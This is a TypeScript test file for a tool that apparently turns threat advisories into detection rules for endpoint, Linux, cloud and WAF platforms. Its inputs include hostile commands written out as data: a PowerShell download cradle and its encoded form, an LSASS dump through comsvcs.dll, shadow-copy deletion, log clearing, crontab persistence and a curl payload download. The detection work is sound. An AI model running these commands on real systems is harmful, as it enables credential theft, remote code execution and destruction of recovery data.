import { type GeneratedRule, generate } from '@tripline/advisory';
import { textAdvisory } from './support/documents.js';

async function rulesOf(text: string): Promise<readonly GeneratedRule[]> {
  return generate(await textAdvisory(text)).rules;
}
const on = (rules: readonly GeneratedRule[], platform: string) => rules.filter((rule) => rule.platform === platform);

const CRADLE = "IEX (New-Object Net.WebClient).DownloadString('hxxp://heron-stage[.]net/a.ps1')";

describe('PowerShell', () => {
  it('a download cradle by itself gives a script block rule with its telling names and the host', async () => {
    const [rule] = on(await rulesOf(`The next stage was loaded into memory:\n\n${CRADLE}\n`), 'endpoint-powershell');
    expect(rule?.yaml).toContain("ScriptBlockText|contains|all:\n            - 'IEX'\n");
    for (const part of ['Net.WebClient', 'DownloadString', 'heron-stage.net'])
      expect(rule?.yaml).toContain(`- '${part}'`);
    expect(rule?.techniques).toEqual(['T1059.001', 'T1105']);
  });

  it('prose that names the same parts gives none', async () => {
    const text = 'Scripts that use Net.WebClient together with IEX are common, said the Windows team.';
    expect(on(await rulesOf(text), 'endpoint-powershell')).toEqual([]);
  });

  it('an encoded command is found by what it decodes to, not by its text alone', async () => {
    const payload = Buffer.from(CRADLE.replace('hxxp', 'http').replace('[.]', '.'), 'utf16le').toString('base64');
    const rules = await rulesOf(`They ran this:\n\npowershell.exe -nop -w hidden -enc ${payload}\n`);
    const [command] = on(rules, 'endpoint-sysmon');
    expect(command?.yaml).toContain("CommandLine|wide|base64offset|contains: 'IEX (New-Object'");
    expect(command?.evidence).toContainEqual({
      field: 'CommandLine',
      value: 'IEX (New-Object',
      template: 'decoded-encoded-command',
    });
    const [script] = on(rules, 'endpoint-powershell');
    expect(script?.yaml).toContain("- 'DownloadString'");
  });

  it('an argument that is no encoded text stays as it is', async () => {
    const rules = await rulesOf('They ran powershell.exe -nop -enc QUJDREVGR0hJSktMTU5PUFFSU1RVVldY there.');
    for (const { yaml } of rules) expect(yaml).not.toContain('base64offset');
  });
});

describe('command lines', () => {
  it.each([
    [
      'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 700 C:\\Temp\\heron.dmp full',
      'LSASS Memory Dump Through Comsvcs With Rundll32',
      'heron',
    ],
    ['vssadmin.exe delete shadows /for=D: /quiet', 'Shadow Copy Deletion With Vssadmin', 'quiet'],
  ])('that tell by themselves are kept free of the actor’s own names: %s', async (line, title, own) => {
    const [rule] = on(await rulesOf(`The intruders ran this on the server:\n\n${line}\n`), 'endpoint-sysmon');
    expect(rule?.title).toBe(title);
    expect(rule?.level).toBe('high');
    expect(rule?.yaml).not.toContain(own);
  });

  it('keep a quoted name of several words whole', async () => {
    const line = 'schtasks.exe /create /tn "Heron Sync Helper" /tr C:\\ProgramData\\heron\\sync.exe /sc daily';
    const [rule] = on(await rulesOf(`They ran this:\n\n${line}\n`), 'endpoint-sysmon');
    expect(rule?.yaml).toContain("- 'Heron Sync Helper'");
  });

  it('keep the short sub-command that makes them telling', async () => {
    const [rule] = on(await rulesOf('They ran wevtutil.exe cl Security to hide.'), 'endpoint-sysmon');
    expect(rule?.yaml).toContain("' cl '");
  });

  it('say in the description why it matters', async () => {
    const [rule] = on(await rulesOf('They ran vssadmin.exe delete shadows /all.'), 'endpoint-sysmon');
    expect(rule?.description).toMatch(/^Detects vssadmin .+ Without copies to restore from/);
  });
});

describe('Linux', () => {
  it('a crontab written from a pipe gives a persistence rule', async () => {
    const text = 'On the Linux host persistence was set up:\n\necho "*/7 * * * * /tmp/.heron" | crontab -\n';
    const [rule] = on(await rulesOf(text), 'endpoint-auditd');
    expect(rule?.techniques).toEqual(['T1053.003']);
    expect(rule?.tests.noMatch.length).toBeGreaterThan(0);
  });

  it('a crontab that is listed gives none', async () => {
    expect(on(await rulesOf('On Linux they ran crontab -l and left.'), 'endpoint-auditd')).toEqual([]);
  });

  it('a download is told by the file it writes', async () => {
    const text = 'On the Linux host:\n\ncurl -fsSL http://203.0.113.9/x -o /tmp/.heron/run\n';
    const [rule] = on(await rulesOf(text), 'endpoint-auditd');
    expect(rule?.yaml).toContain("'/tmp/.heron/run'");
  });

  it('kubectl commands are left to the cluster’s own log', async () => {
    const rules = await rulesOf('In Kubernetes they ran kubectl exec -it heron-0 -- /bin/sh on a Linux host.');
    expect(rules.map(({ platform }) => platform)).toEqual(['container-audit']);
  });
});

describe('cloud rules', () => {
  it('join the calls of one step and are titled by what was done', async () => {
    const rules = await rulesOf('With the keys they called CreateUser, CreateAccessKey and StopLogging in AWS.');
    expect(rules.filter(({ yaml }) => !yaml.includes('correlation:')).map(({ title }) => title)).toEqual([
      'AWS IAM User Created And Access Key Created',
      'AWS CloudTrail Logging Stopped',
    ]);
  });

  it('do not take a cluster’s secrets for those of a cloud', async () => {
    const text =
      'AWS keys were stolen from an EC2 host; CloudTrail was off, IAM user rights were wide.\n\nIn the cluster they listed secrets with kubectl get secrets -A.';
    const rules = await rulesOf(text);
    expect(rules.map(({ title }) => title)).toEqual(['Kubernetes Secrets Listed']);
  });

  it('leave out what administrators are told to do', async () => {
    const text =
      'The AWS account lost its keys.\n\n## What to do\n\nAdministrators can check AWS with aws cloudtrail get-trail-status.';
    expect(await rulesOf(text)).toEqual([]);
  });
});

describe('what is too common for a rule', () => {
  it.each([
    ['a C runtime library', 'It loads api-ms-win-crt-heap-l1-1-0.dll and python39.dll beside it.', 'endpoint-sysmon'],
    ['a document opened by hand', 'They ran notepad.exe C:\\Users\\heron\\Notes.txt there.', 'endpoint-sysmon'],
    [
      'an everyday tool with its own switch',
      'They ran schtasks.exe /Delete /F and taskkill.exe /PID there.',
      'endpoint-sysmon',
    ],
    ['a key of structured data', 'The policy on Linux reads:\n\n```\nservice: allServices\n```\n', 'endpoint-auditd'],
    [
      'macOS tools',
      'On macOS, in OS X style, a .plist is loaded: launchctl load -w /tmp/heron.plist',
      'endpoint-auditd',
    ],
    ['a proof of concept', 'We tried it on Linux: python3 exploit.py --target http://203.0.113.4', 'endpoint-auditd'],
    ['a page everyone asks for', 'CVE-2031-0002 is exploited by requests: POST /wp-login.php HTTP/1.1', 'waf-1'],
  ])('%s gives no rule', async (_, text, platform) => {
    expect(on(await rulesOf(text), platform)).toEqual([]);
  });

  it('a user’s own SID is left out of registry paths', async () => {
    const text =
      'It sets HKEY_USERS\\S-1-5-21-1111111111-2222222222-3333333333-1001\\Software\\HeronSoft\\Config\\Mode to hide.';
    const [rule] = on(await rulesOf(text), 'endpoint-sysmon');
    expect(rule?.yaml).toContain("'\\Software\\HeronSoft\\Config\\Mode'");
  });

  it('a full method name is not widened by its bare one', async () => {
    const text =
      'On Google Cloud (GCP), with gcloud, v1.compute.disks.setIamPolicy was called: SetIamPolicy on a disk.';
    const [rule, ...more] = on(await rulesOf(text), 'cloud-audit-2');
    expect(rule?.title).toBe('Google Cloud Disks IAM Policy Set');
    expect(more).toEqual([]);
  });

  it('Azure operations in capitals are titled as documented', async () => {
    const text = 'In Azure the activity log has MICROSOFT.COMPUTE/VIRTUALMACHINES/DELETE.';
    const [rule] = on(await rulesOf(text), 'cloud-audit-3');
    expect(rule?.title).toBe('Azure Virtual Machines Deleted');
  });
});

describe('request paths', () => {
  const story = (more: string) =>
    `The exploit of CVE-2026-1111 sends one HTTP request to /portal/setup-restore.action on the vulnerable server.\n\n${more}\n`;

  it('of an exploit give a rule for each WAF', async () => {
    const rules = await rulesOf(story('It needs no login.'));
    for (const waf of ['waf-1', 'waf-2']) expect(on(rules, waf)[0]?.yaml).toContain('/portal/setup-restore.action');
  });

  it("on the actor's own server are no exploit of ours", async () => {
    const text =
      'The implant decodes the path /k4x238hq/update.php. The address it calls is brass-heron[.]net/k4x238hq/update.php.';
    const rules = await rulesOf(story(text));
    for (const { platform, yaml } of rules) if (platform?.startsWith('waf')) expect(yaml).not.toContain('k4x238hq');
  });
});

describe('indicator rules', () => {
  it('name a file once, whatever the letter case it is written in', async () => {
    const text =
      'The mail carried heronletter.scr. Later waves carried HERONLETTER.SCR and heron-notes.scr as attachments.\n';
    const yaml = (await rulesOf(text)).map((rule) => rule.yaml).join('\n');
    expect(yaml.match(/heronletter\.scr/gi)).toHaveLength(1);
    expect(yaml).toContain('heron-notes.scr');
  });
});

describe('program names', () => {
  it('of a service that was broken into are not taken for the programs of the intrusion', async () => {
    const text =
      'After the exploit of CVE-2026-2222, heronservice.exe spawned cmd.exe on the server. The attackers executed brassdrop.exe later on.\n';
    const names = (await rulesOf(text)).filter(({ title }) => title.startsWith('Program Names'));
    for (const { yaml } of names) expect(yaml).not.toContain('heronservice');
  });
});

describe('what a command means', () => {
  it('a program of unknown purpose gets no technique', async () => {
    const [rule] = on(await rulesOf('They ran this:\n\nheronprobe7.exe --silent --out heron.dat\n'), 'endpoint-sysmon');
    expect(rule?.yaml).toContain('heron.dat');
    expect(rule?.techniques).toEqual([]);
    expect(rule?.yaml).not.toContain('tags:');
  });

  it('a system program’s name with somebody else’s options is a disguise', async () => {
    const [rule] = on(
      await rulesOf('They ran this:\n\nsvchost.exe --config heron.conf --progress\n'),
      'endpoint-sysmon',
    );
    expect(rule?.techniques).toEqual(['T1036.005']);
  });

  it('a registry path may hold a GUID and a value whose name begins with a star', async () => {
    const text =
      'It wrote HKLM\\SOFTWARE\\Heron\\Cache\\{A3112501-520A-8F32-871A-380B92917B3D} and HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\*HeronStart there.';
    const yaml = on(await rulesOf(text), 'endpoint-sysmon')
      .map((rule) => rule.yaml)
      .join('');
    expect(yaml).toContain("'\\SOFTWARE\\Heron\\Cache\\{A3112501-520A-8F32-871A-380B92917B3D}'");
    expect(yaml).toContain('RunOnce\\\\\\*HeronStart');
  });
});
